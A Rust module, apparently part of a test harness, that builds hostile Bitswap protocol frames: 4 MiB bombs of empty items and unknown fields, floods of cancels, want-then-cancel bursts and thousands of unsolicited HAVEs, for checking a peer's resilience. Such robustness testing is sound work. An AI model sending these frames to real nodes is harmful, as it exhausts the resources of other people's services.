//! What the attackers send.

/// A name, and the frames that are sent in turn.
type Attack = (&'static str, fn() -> Vec<Vec<u8>>);

pub(crate) const ATTACKS: &[Attack] = &[
    ("bomb", bombs),
    ("cancel-storm", cancels),
    ("want-and-cancel", wants_and_cancels),
    ("many-haves", presences),
];

/// Items in one frame of entries or presences: as many as are read.
const ITEMS: u32 = 65_000;

/// 4 MiB of each kind of item of no bytes, and of fields that nobody knows.
fn bombs() -> Vec<Vec<u8>> {
    let item = |item: [u8; 2]| framed(&item.repeat((4 << 20) / 2));
    // Blocks without and with a prefix, presences, wantlists, field 10.
    vec![item([0x12, 0]), item([0x1a, 0]), item([0x22, 0]), item([0x0a, 0]), item([0x52, 0])]
}

/// Cancels of what was never wanted.
fn cancels() -> Vec<Vec<u8>> {
    (0..4).map(|frame| wantlist((0..ITEMS).map(|n| entry(frame * ITEMS + n, true)))).collect()
}

/// Wants of what nobody has, and at once their cancels.
fn wants_and_cancels() -> Vec<Vec<u8>> {
    let frame = |cancel| wantlist((0..1_000).map(move |n| entry(n, cancel)));
    vec![frame(false), frame(true)]
}

/// HAVEs that nobody asked for.
fn presences() -> Vec<Vec<u8>> {
    let have = |n| field(4, &field(1, &name(n)));
    vec![framed(&(0..8_000).flat_map(have).collect::<Vec<_>>())]
}

fn wantlist(entries: impl Iterator<Item = Vec<u8>>) -> Vec<u8> {
    framed(&field(1, &entries.flatten().collect::<Vec<_>>()))
}

fn entry(n: u32, cancel: bool) -> Vec<u8> {
    let cancel: &[u8] = if cancel { &[0x18, 1] } else { &[] };
    field(1, &[&field(1, &name(n)), cancel].concat())
}

/// A CID of 36 bytes.
fn name(n: u32) -> Vec<u8> {
    [&[1, 0x55, 0x12, 0x20][..], &n.to_be_bytes(), &[7; 28]].concat()
}

fn field(number: u8, value: &[u8]) -> Vec<u8> {
    [&[number << 3 | 2], &framed(value)[..]].concat()
}

/// The bytes after their length.
fn framed(content: &[u8]) -> Vec<u8> {
    let mut length = content.len();
    let mut framed = Vec::with_capacity(length + 4);
    while length >= 0x80 {
        framed.push(length as u8 | 0x80);
        length >>= 7;
    }
    framed.push(length as u8);
    framed.extend(content);
    framed
}
